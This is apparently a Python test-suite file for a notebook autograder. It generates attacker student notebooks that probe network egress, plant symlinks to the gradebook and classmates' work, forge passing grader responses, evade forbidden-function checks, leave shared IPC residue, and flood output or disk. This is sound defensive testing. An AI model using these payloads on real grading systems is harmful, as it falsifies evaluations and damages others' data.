def network(s: Setting, student):
    """Connect to the test's listener on 127.0.0.1 and to public addresses (2 s timeout), from a
    cell and from inside the function; a public connection is reported to the listener too."""
    code = textwrap.dedent(f"""
        import socket

        def _call_home(where):
            public = []
            for host, port in (("1.1.1.1", 443), ("8.8.8.8", 53)):
                try:
                    socket.create_connection((host, port), timeout=2).close()
                    public.append(host)
                except OSError:
                    pass
            try:
                with socket.create_connection(("127.0.0.1", {s.port}), timeout=2) as conn:
                    conn.sendall(("%s %s %s public=%s\\n" % (_TOKEN, _ME, where, ",".join(public))).encode())
            except OSError:
                pass
            return public
        print("public:", _call_home("cell"))
        """)
    return notebook(s, student, {
        "mse": code,
        "mae": code + textwrap.dedent("""
            _called = []

            def mae_loss(pred, target):
                if not _called:
                    _called.append(_call_home("function"))
                raise NotImplementedError()
            """),
    })


# --------------------------------------------------------------------------- issue 14's families
def scratch_links(s: Setting, student):
    """Symlinks to the course's gradebook and a classmate's hand-in, and FIFOs, at every name
    the grader once read or wrote in the scratch folder (requests, responses, connection
    files, sockets), in the working folder, HOME and /tmp; then the kernel dies (a restart)."""
    plant = textwrap.dedent(f"""
        _targets = [_os.path.join(_COURSE, "gradebook.db"),
                    _os.path.join(_COURSE, "submitted", "z_honest", _A, _A + ".ipynb")]
        for _n in range(1, 9):
            for _i, _name in enumerate((f"request-{{_n}}.pt", f"response-{{_n}}.pt", f"response-{{_n}}.pt.tmp",
                                        f"kernel{{_n}}.json", f"kernel-{{_n}}.json")):
                for _folder in (_os.getcwd(), _os.environ.get("HOME", "/tmp"), "/tmp"):
                    try:
                        _os.symlink(_targets[_i % 2], _os.path.join(_folder, _name))
                    except OSError:
                        pass
            for _port in range(1, 6):
                try:
                    _os.mkfifo(_os.path.join(_os.getcwd(), f"kernel{{_n}}-{{_port}}"))
                except OSError:
                    pass
        """)
    return notebook(s, student, {"mse": plant, "mae": plant + "\n_os._exit(3)\n"})


FORGE_FRAME = """
import io as _io, struct as _struct, torch as _torch

def _frame(obj):
    buf = _io.BytesIO()
    _torch.save(obj, buf)
    return _struct.pack("!4sQ", b"LGrs", len(buf.getvalue())) + buf.getvalue()

_PASS = {"solution": {"defined": True, "callable": True, "none": False},
         "cases": [{"status": "ok", "calls": [], "out": {"type": "tensor", "shape": [], "dtype": "float32",
                                                          "device": "cpu", "requires_grad": True,
                                                          "value": _torch.tensor(7.0)}}] * 40}
"""


def forged_frames(s: Setting, student):
    """The runtime's channel is a descriptor of the kernel: write a forged response on it
    (every case "ok", no call seen) from the function, through os.write and through a file
    object opened on the descriptor."""
    return notebook(s, student, {
        "mse": FORGE_FRAME + textwrap.dedent("""
            def mse_loss(pred, target):
                _os.write(int(_os.environ["LOSSGRADER_CHANNEL_FD"]), _frame(_PASS))
                return (pred * 0 + target * 0).sum() + 7.0
            """),
        "mae": FORGE_FRAME + textwrap.dedent("""
            _channel = open(int(_os.environ.get("LOSSGRADER_CHANNEL_FD", "-1")), "wb", closefd=False)

            def mae_loss(pred, target):
                _channel.write(_frame(_PASS))
                _channel.flush()
                return (pred * 0 + target * 0).sum() + 7.0
            """),
    })


def forbidden_routes(s: Setting, student):
    """Correct values through the forbidden built-in, by routes the process's spies miss or
    its names lie about: another thread, a new __qualname__, TorchScript, a scrubbed
    torch.save, the runtime replaced through `import lossgrader`."""
    return notebook(s, student, {
        "mse": textwrap.dedent("""
            import torch
            import torch.nn.functional as F
            from concurrent.futures import ThreadPoolExecutor
            _pool = ThreadPoolExecutor(1)

            def mse_loss(pred, target):
                return _pool.submit(F.mse_loss, pred, target).result()
            """),
        "mae": textwrap.dedent("""
            import torch.nn.functional as F
            F.l1_loss.__qualname__ = "my_helper"

            def mae_loss(pred, target):
                return F.l1_loss(pred, target)
            """),
        "huber": textwrap.dedent("""
            import torch
            import torch.nn.functional as F

            @torch.jit.script
            def _h(pred, target, delta: float):
                return F.huber_loss(pred, target, delta=delta)

            def huber_loss(pred, target, delta=1.0):
                return _h(pred, target, float(delta))
            """),
        "smooth_l1": textwrap.dedent("""
            import torch
            import torch.nn.functional as F
            import lossgrader as _lg
            _lg.runtime.graph_ops = lambda result: []
            _save = torch.save
            torch.save = lambda obj, f, *a, **k: _save(obj, f, *a, **k)

            def smooth_l1_loss(pred, target, beta=1.0):
                return F.smooth_l1_loss(pred, target, beta=beta)
            """),
    })


def leftovers(s: Setting, student):
    """What outlives a process in the sandbox: a POSIX message queue, keys in the uid's
    shared keyrings, a SysV segment, files in /tmp and /dev/shm, for whoever is graded next."""
    return notebook(s, student, {
        "mse": textwrap.dedent(f"""
            import ctypes as _ct
            _libc, _rt = _ct.CDLL(None, use_errno=True), _ct.CDLL("librt.so.1", use_errno=True)
            _rt.mq_open.argtypes = [_ct.c_char_p, _ct.c_int, _ct.c_uint, _ct.c_void_p]
            _q = _rt.mq_open(b"/left-{s.token}", _os.O_CREAT | _os.O_RDWR, 0o600, None)
            _rt.mq_send(_q, b"secret", 6, 0)
            _add_key = {{"x86_64": 248, "aarch64": 217}}[_os.uname().machine]
            for _ring in (-4, -5):
                _libc.syscall(_add_key, b"user", b"left-{s.token}", b"secret", 6, _ct.c_long(_ring))
            _libc.shmget(0, 1 << 20, 0o1000 | 0o600)
            for _d in ("/tmp", "/dev/shm"):
                open(_os.path.join(_d, "left-{s.token}"), "w").write("secret")
            """),
    })


def output_flood(s: Setting, student):
    """Forty extra cells each printing just under one cell's output cap: a 30 KB hand-in
    that once made a 38 MiB autograded notebook."""
    flood = [(3, nbformat.v4.new_code_cell("print(('z' * 1023 + '\\n') * 2000)")) for _ in range(40)]
    return notebook(s, student, {}, extra_cells=flood)


def scratch_fill(s: Setting, student):
    """Write files into the working folder until the disk says no (the scratch folder once
    lay on the host's disk with a per-file limit only)."""
    return notebook(s, student, {
        "mse": textwrap.dedent("""
            _written = 0
            try:
                for _i in range(100_000):
                    with open(f"fill-{_i}", "wb") as _fh:
                        _fh.write(b"\\0" * (32 << 20))
                    _written += 32
            except OSError as _exc:
                print("stopped after MiB:", _written, type(_exc).__name__)
            """),
    })


ATTACKS = {
    "x_stack_walk": stack_walk,
    "x_patch_compare": patch_compare,
    "x_patch_display": patch_display,
    "x_patch_grader": patch_grader,
    "x_back_doors": back_doors,
    "x_evasive": evasive,
    "x_gradebook_corrupt": gradebook_corrupt,
    "x_gradebook_delete": gradebook_delete,
    "x_gradebook_sql": gradebook_sql,
    "x_overwrite_submitted": overwrite_submitted,
    "x_delete_autograded": delete_autograded,
    "x_copy_classmates": copy_classmates,
    "x_detached": detached,
    "x_rewrite_grader": rewrite_grader,
    "x_huge_output": huge_output,
    "x_html_js": html_js,
    "x_memory_hog": memory_hog,
    "x_fork_loop": fork_loop,
    "x_network": network,
    "x_scratch_links": scratch_links,
    "x_forged_frames": forged_frames,
    "x_forbidden_routes": forbidden_routes,
    "x_leftovers": leftovers,
    "x_output_flood": output_flood,
    "x_scratch_fill": scratch_fill,
}


def class_handins(s: Setting, attacks=None):
    """student -> notebook text: the honest students, the blank one and the chosen attackers."""
    out = {name: nbformat.writes(honest(s)) for name in HONEST}
    out[BLANK] = nbformat.writes(blank(s))
    out[FORMULA_STUDENT] = nbformat.writes(blank(s))
    for name, build in ATTACKS.items():
        if attacks is None or name in attacks:
            nb = build(s, name)
            nbformat.validate(nb)
            out[name] = nbformat.writes(nb)
    return out
